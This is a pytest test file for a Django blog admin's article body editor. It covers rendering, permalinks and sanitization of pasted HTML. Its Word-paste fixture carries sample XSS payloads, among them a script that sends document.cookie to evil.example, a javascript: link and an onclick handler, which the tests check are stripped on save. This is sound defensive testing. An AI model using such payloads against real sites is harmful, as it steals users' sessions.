"""The article body's visual editor in the admin: what it may write, what the server keeps."""

import re
from datetime import timedelta
from html import unescape

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from blog import importers
from blog.admin_forms import (
    BEYOND_EDITOR_HELP,
    BODY_EXTENSIONS,
    ArticleAdminForm,
    body_editor_widget,
    markup_beyond_editor,
)
from blog.html import ARTICLE_ATTRIBUTES, ARTICLE_TAGS
from blog.models import Article
from tests.factories.blog import ArticleFactory
from tests.factories.media import ImageFactory

pytestmark = pytest.mark.django_db

ADD_URL = reverse("admin:blog_article_add")
EDITOR_ATTRIBUTE = "data-django-prose-editor-configurable"
TEXTAREA = re.compile(r'<textarea name="body"(?P<attrs>[^>]*)>\n?(?P<value>.*?)</textarea>', re.S)

WORD_PASTE = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
<style>p.MsoNormal { margin: 0 }</style><script>alert("head")</script></head><body>
<p class="MsoNormal" style="mso-line-height-alt: 12pt; font-family: Calibri">
<b style="mso-bidi-font-weight:normal"><span lang="EN-GB">Kiel,</span></b>
the frigate sailed at dawn.<o:p></o:p></p>
<p onclick="steal()">Officials <a href="javascript:alert(1)">declined to comment</a>.</p>
<iframe src="https://www.youtube.com/embed/abc123" width="560"></iframe>
<script>document.location = "https://evil.example/?" + document.cookie</script>
<p><a href="https://www.youtube.com/watch?v=abc123" target="_blank" style="color:red">
Watch the launch</a></p>
</body></html>"""


def change_url(article):
    return reverse("admin:blog_article_change", args=[article.pk])


def form_data(article, **overrides):
    data = {
        "title": article.title,
        "slug": article.slug,
        "body": article.body,
        "excerpt": article.excerpt,
        "status": article.status,
        "published_at_0": article.published_at.strftime("%Y-%m-%d"),
        "published_at_1": article.published_at.strftime("%H:%M:%S"),
        "author": "",
        "related_links-TOTAL_FORMS": "0",
        "related_links-INITIAL_FORMS": "0",
        "related_links-MIN_NUM_FORMS": "0",
        "related_links-MAX_NUM_FORMS": "1000",
    }
    return data | overrides


def body_field(response) -> tuple[str, str]:
    """The body textarea's attributes, and the value a browser would send back."""
    match = TEXTAREA.search(response.content.decode())
    assert match, "no body textarea on the page"
    return match["attrs"], unescape(match["value"])


def test_add_page_shows_the_editor_a_wide_title_and_the_permalink(editor_client):
    response = editor_client.get(ADD_URL)

    assert response.status_code == 200
    attrs, _value = body_field(response)
    assert EDITOR_ATTRIBUTE in attrs
    page = response.content.decode()
    assert 'id="id_title"' in page and 'size="80"' in page
    assert "Insert a picture from the media library" in page
    assert f'Permalink: <span class="permalink-address">{settings.SITE_URL}/' in page
    assert "css/admin-editor.css" in page
    assert "js/body-editor.js" in unescape(attrs)


def test_change_page_shows_the_body_in_the_editor_and_the_article_permalink(editor_client):
    article = ArticleFactory(title="Navy orders new frigates", body="<p>Kiel at dawn.</p>")
    day = article.permalink_date

    response = editor_client.get(change_url(article))

    assert response.status_code == 200
    attrs, value = body_field(response)
    assert EDITOR_ATTRIBUTE in attrs
    assert value == "<p>Kiel at dawn.</p>"
    expected = (
        f"{settings.SITE_URL}/{day:%Y/%m/%d}/"
        '<output for="id_slug" data-permalink-slug="id_slug">navy-orders-new-frigates</output>/'
    )
    assert expected in response.content.decode()
    assert article.get_absolute_url() == f"/{day:%Y/%m/%d}/navy-orders-new-frigates/"


def test_pasted_word_html_is_cleaned_on_save_and_its_text_kept(editor_client):
    article = ArticleFactory()

    response = editor_client.post(change_url(article), form_data(article, body=WORD_PASTE))

    assert response.status_code == 302
    article.refresh_from_db()
    body = article.body
    for dangerous in ("<script", "<iframe", "javascript:", "style=", "onclick", "class=",
                      "<style", "<o:p", "target=", "alert(", "document.cookie"):  # fmt: skip
        assert dangerous not in body, dangerous
    assert "<b><span>Kiel,</span></b>" not in body  # <span> is not allowed either
    assert "<b>Kiel,</b>" in body
    assert "the frigate sailed at dawn." in body
    assert "Officials declined to comment." in body
    assert '<a href="https://www.youtube.com/watch?v=abc123" rel="noopener noreferrer">' in body
    assert "Watch the launch</a>" in body


def test_seed_article_opens_and_saves_unchanged(editor_client, seed_path):
    article = importers.import_path(seed_path).article
    stored_body, stored_blocks = article.body, article.body_blocks

    response = editor_client.get(change_url(article))
    attrs, sent_back = body_field(response)
    assert EDITOR_ATTRIBUTE in attrs
    assert sent_back == stored_body
    response = editor_client.post(change_url(article), form_data(article, body=sent_back))

    assert response.status_code == 302
    article.refresh_from_db()
    assert article.body == stored_body
    assert article.body_blocks == stored_blocks


def test_body_with_a_library_picture_opens_in_the_editor_and_saves_unchanged(editor_client):
    image = ImageFactory()
    body = (
        "<p>Before.</p>\n"
        f'<figure data-media-id="{image.pk}"><figcaption>The frigate at <em>Kiel</em>.'
        "</figcaption></figure>\n<p>After.</p>"
    )
    article = ArticleFactory(body=body)
    assert article.body == body

    attrs, sent_back = body_field(editor_client.get(change_url(article)))
    response = editor_client.post(change_url(article), form_data(article, body=sent_back))

    assert EDITOR_ATTRIBUTE in attrs
    assert response.status_code == 302
    article.refresh_from_db()
    assert article.body == body


def test_body_with_markup_the_editor_would_drop_is_shown_as_html_and_kept(editor_client):
    body = (
        '<dl><dt>NATO</dt><dd>The <abbr title="North Atlantic Treaty Organization">'
        'alliance</abbr>.</dd></dl>\n<p><img src="https://example.org/a.jpg" alt="A ship" '
        'loading="lazy"></p>'
    )
    article = ArticleFactory(body=body)

    response = editor_client.get(change_url(article))
    attrs, sent_back = body_field(response)

    assert EDITOR_ATTRIBUTE not in attrs
    assert 'data-beyond-editor="abbr abbr[title] dd dl dt img[loading]"' in attrs
    help_text = BEYOND_EDITOR_HELP.format(markup="abbr, abbr[title], dd, dl, dt, img[loading]")
    assert help_text in unescape(response.content.decode())
    response = editor_client.post(change_url(article), form_data(article, body=sent_back))
    assert response.status_code == 302
    article.refresh_from_db()
    assert article.body == body


@pytest.mark.parametrize(
    ("html", "beyond"),
    [
        ("<p>Plain <strong>bold</strong> and <b>old bold</b>.</p>", []),
        ('<p><a href="https://x.org/" rel="noopener noreferrer">x</a></p>', []),
        ('<ol start="3"><li>Three</li></ol>', []),
        ('<figure data-media-id="4"></figure>', []),
        (
            '<figure><img src="https://x.org/a.jpg" alt=""></figure>',
            ["figure without data-media-id"],
        ),
        ('<blockquote cite="https://x.org/">Quoted</blockquote>', ["blockquote[cite]"]),
        ("<p><q>Short</q> and <small>fine print</small></p>", ["q", "small"]),
        ("<table><caption>Votes</caption><tr><td>1</td></tr></table>", ["caption"]),
        ("<pre><code>make bench</code></pre>", []),
    ],
)
def test_markup_beyond_editor_names_what_an_edit_would_drop(html, beyond):
    assert markup_beyond_editor(html) == beyond


def test_code_block_with_a_blank_line_is_saved_as_one_block(editor_client):
    article = ArticleFactory(body="<p>Before.</p>")
    code = "<pre><code>first = 1\n\nsecond = 2</code></pre>"

    response = editor_client.post(
        change_url(article), form_data(article, body=f"<p>Run this:</p>{code}")
    )

    assert response.status_code == 302
    article.refresh_from_db()
    assert article.body == f"<p>Run this:</p>{code}"
    attrs, _value = body_field(editor_client.get(change_url(article)))
    assert EDITOR_ATTRIBUTE in attrs  # it opens in the editor, not as HTML


def test_editor_writes_nothing_the_site_would_strip_but_what_the_site_replaces():
    from django_prose_editor.config import allowlist_from_extensions

    allowed = allowlist_from_extensions(BODY_EXTENSIONS)
    # rel: the site writes its own on every link. data-file: only the package's upload
    # feature writes it (not used here). ol type/data-type: list styles, switched off.
    replaced = {("a", "rel"), ("img", "data-file"), ("ol", "type"), ("ol", "data-type")}

    assert set(allowed["tags"]) <= ARTICLE_TAGS
    written = {(tag, attr) for tag, attrs in allowed["attributes"].items() for attr in attrs}
    kept = {(tag, attr) for tag, attrs in ARTICLE_ATTRIBUTES.items() for attr in attrs}
    assert written - kept == replaced


def test_body_editor_widget_serves_any_admin_form():
    widget = body_editor_widget()

    html = widget.render("body", "<p>Hello</p>", attrs={"id": "id_body"})

    assert EDITOR_ATTRIBUTE in html
    assert 'id="lookup_id_body_picture"' in html
    assert "django_prose_editor/configurable.js" in str(widget.media)
    as_html = widget.render("body", "<p><q>Quoted</q></p>", attrs={"id": "id_body"})
    assert EDITOR_ATTRIBUTE not in as_html
    assert BEYOND_EDITOR_HELP.format(markup="q") in unescape(as_html)


def test_new_article_form_uses_the_editor_for_an_empty_body():
    form = ArticleAdminForm()

    assert EDITOR_ATTRIBUTE in str(form["body"])


def test_an_editor_can_open_the_picture_pop_up_the_insert_button_uses(editor_client):
    ImageFactory(title="Frigate at Kiel")
    url = reverse("admin:media_image_changelist") + "?_to_field=id&_popup=1"

    response = editor_client.get(url)

    assert response.status_code == 200
    assert "Frigate at Kiel" in response.content.decode()
    assert "data-popup-opener" in response.content.decode()


def test_old_draft_shows_the_permalink_it_gets_if_published_today(editor_client):
    created = timezone.now() - timedelta(days=40)
    article = ArticleFactory(title="Long-stewing feature", draft=True)
    Article.objects.filter(pk=article.pk).update(created_at=created)
    today = timezone.localdate()

    response = editor_client.get(change_url(article))

    assert response.status_code == 200
    page = response.content.decode()
    assert (
        f"{settings.SITE_URL}/{today:%Y/%m/%d}/"
        '<output for="id_slug" data-permalink-slug="id_slug">long-stewing-feature</output>/'
    ) in page
    assert f"/{timezone.localdate(created):%Y/%m/%d}/" not in page
